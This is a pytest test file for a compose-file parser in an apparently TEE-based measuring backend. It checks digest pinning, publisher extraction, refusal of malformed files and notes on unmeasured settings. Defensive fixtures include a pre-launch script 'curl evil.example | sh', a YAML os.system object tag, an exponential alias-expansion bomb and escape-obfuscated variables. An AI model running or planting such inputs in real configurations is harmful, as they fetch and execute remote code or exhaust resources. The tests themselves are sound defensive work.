"""Tests of the parser of compose files."""

import hashlib

import pytest
from measured_files import DIGEST, PINNED, app_compose

from tee_backend.measuring.compose_files import MAX_COMPOSE_BYTES, parse_compose
from tee_backend.measuring.measuring_errors import MeasurementRefused


def test_an_application() -> None:
    """The compose hash is over the file's bytes, and each image has a publisher (AT64)."""
    data = app_compose()
    compose = parse_compose(data, file="app-compose.json")
    assert compose.sha256 == hashlib.sha256(data).digest()
    assert compose.is_app_compose and compose.has_instance_id and compose.name == "notes"
    (image,) = compose.images
    assert image.service == "notes"
    assert image.reference == f"docker.io/acme/notes@{DIGEST}"
    assert compose.publishers == ("docker.io/acme",)
    assert compose.notes == ()


def test_a_compose_file_of_its_own() -> None:
    """A file in YAML has the hash of its bytes, and a note that dstack logs another file's."""
    compose = parse_compose(PINNED.encode(), file="compose.yaml")
    assert compose.sha256 == hashlib.sha256(PINNED.encode()).digest()
    assert not compose.is_app_compose
    assert "app-compose.json" in compose.notes[0]


@pytest.mark.parametrize(
    ("reference", "publisher"),
    [
        ("notes", "docker.io/library"),
        ("acme/notes", "docker.io/acme"),
        ("ghcr.io/acme/tools/notes", "ghcr.io/acme/tools"),
        ("localhost:5000/notes", "localhost:5000"),
        ("notes:1.0", "docker.io/library"),
    ],
)
def test_publishers(reference: str, publisher: str) -> None:
    """The publisher is the registry and the account of an image."""
    text = f"services: {{notes: {{image: '{reference}@{DIGEST}'}}}}"
    assert parse_compose(text.encode(), file="compose.yaml").publishers == (publisher,)


UNPINNED = {
    "a tag": "services: {a: {image: 'acme/notes:1.0'}}",
    "no tag": "services: {a: {image: acme/notes}}",
    "a variable": "services: {a: {image: '${IMAGE}'}}",
    "a variable in the digest": "services: {a: {image: 'acme/notes@sha256:${DIGEST}'}}",
    "a short digest": "services: {a: {image: 'acme/notes@sha256:abab'}}",
    "another hash": f"services: {{a: {{image: 'acme/notes@sha512:{'ab' * 32}'}}}}",
    "no image": "services: {a: {command: true}}",
    "an image that is a list": "services: {a: {image: [x]}}",
    "a build": f"services: {{a: {{image: 'acme/notes@{DIGEST}', build: .}}}}",
    "an extension": f"services: {{a: {{image: 'acme/notes@{DIGEST}', extends: b}}}}",
    "an inclusion": f"include: [b.yaml]\nservices: {{a: {{image: 'acme/notes@{DIGEST}'}}}}",
    "a second service": f"{PINNED}  other:\n    image: acme/other:latest\n",
    "a merged build": f"x: &x {{build: .}}\nservices: {{a: {{<<: *x, image: 'n@{DIGEST}'}}}}",
}


@pytest.mark.parametrize("text", UNPINNED.values(), ids=UNPINNED)
def test_files_that_do_not_name_their_code(text: str) -> None:
    """A file with code that it does not name by a digest is refused (AT64)."""
    for data in (text.encode(), app_compose(text)):
        with pytest.raises(MeasurementRefused) as refused:
            parse_compose(data, file="compose.yaml")
        assert refused.value.problem == "compose-unpinned"
        assert "digest" in refused.value.hint


MALFORMED = {
    "nothing": b"",
    "text": b"hello",
    "a list": b"[1]",
    "no services": b"services: {}",
    "services that are a list": b"services: [a]",
    "a service that is text": b"services: {a: b}",
    "broken YAML": b"services: {",
    "two documents": b"services: {}\n---\nservices: {}",
    "another tag": b"services: !!python/object:os.system {a: b}",
    "not UTF-8": b"services: \xff",
    "deep nesting": b"services: " + b"[" * 5000,
    "a repeated service": f"services: {{a: {{image: 'n@{DIGEST}'}}, a: {{}}}}".encode(),
    "a repeated image": f"services: {{a: {{image: b, image: 'n@{DIGEST}'}}}}".encode(),
    "a name that is a list": b"services: {[a]: b}",
    "chained merges": (b"x: &x {a: b}\ny: &y {<<: *x}\nservices: {s: {<<: *y}}"),
    "too long": b"#" * (MAX_COMPOSE_BYTES + 1),
    "JSON of another kind": b'{"services": {}}',
    "another runner": app_compose(runner="bash"),
    "a repeated member": b'{"runner": "docker-compose", "runner": "docker-compose"}',
    "too many services": (
        "services:\n" + "".join(f"  a{n}: {{image: 'n@{DIGEST}'}}\n" for n in range(65))
    ).encode(),
}


@pytest.mark.parametrize("data", MALFORMED.values(), ids=MALFORMED)
def test_malformed_files(data: bytes) -> None:
    """A file of another kind is refused with the next step."""
    with pytest.raises(MeasurementRefused) as refused:
        parse_compose(data, file="compose.yaml")
    assert refused.value.problem == "compose-malformed"
    assert refused.value.hint


def test_aliases_that_grow() -> None:
    """A file whose aliases would expand to a huge document is refused at once."""
    lines = ["x0: &x0 [lol, lol]"]
    lines += [f"x{n}: &x{n} [*x{n - 1}, *x{n - 1}]" for n in range(1, 40)]
    text = "\n".join([*lines, f"services: {{a: {{image: 'n@{DIGEST}', volumes: *x39}}}}"])
    with pytest.raises(MeasurementRefused, match="too deep or too large at line"):
        parse_compose(text.encode(), file="compose.yaml")


CHOSEN = "allowed_envs: the operator chooses these variables, which are not measured: API_URL"
SCRIPT = "pre_launch_script: a script runs before the containers; its text is in the file: read it"
NOTED = {
    CHOSEN: app_compose(allowed_envs=["API_URL"]),
    SCRIPT: app_compose(pre_launch_script="curl evil.example | sh"),
    "public_logs: anyone can read the output of the containers": app_compose(public_logs=True),
    "public_sysinfo: anyone can read the state of the machine": app_compose(public_sysinfo=True),
    "docker_compose_file: the operator chooses the values of variables, which are not measured:"
    " NODE": app_compose(f"{PINNED}    environment: ['A=${{NODE}}', 'B=$$HOME']\n"),
}


@pytest.mark.parametrize(("note", "data"), NOTED.items(), ids=NOTED)
def test_what_a_file_leaves_open(note: str, data: bytes) -> None:
    """What the hash does not cover, or what shows data to others, is noted."""
    assert parse_compose(data, file="app-compose.json").notes == (note,)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("$\\\n      {CODE}", "$\\"),
        ("\\x24{CODE} \\u0024CODE", "\\x24, \\u0024"),
        ("$\\x43ODE ${\\x43ODE}", "$\\, ${\\"),
    ],
)
def test_AT71_a_variable_that_is_written_by_escapes(command: str, shown: str) -> None:
    """YAML reads escapes and joins lines in double quotes; the console refuses such a file."""
    image = f"acme/notes@sha256:{'ab' * 32}"
    text = f'services:\n  web:\n    image: {image}\n    command: "{command}"\n'
    compose = parse_compose(text.encode(), file="compose.yaml")
    assert [line.value for line in compose.lines] == [shown]
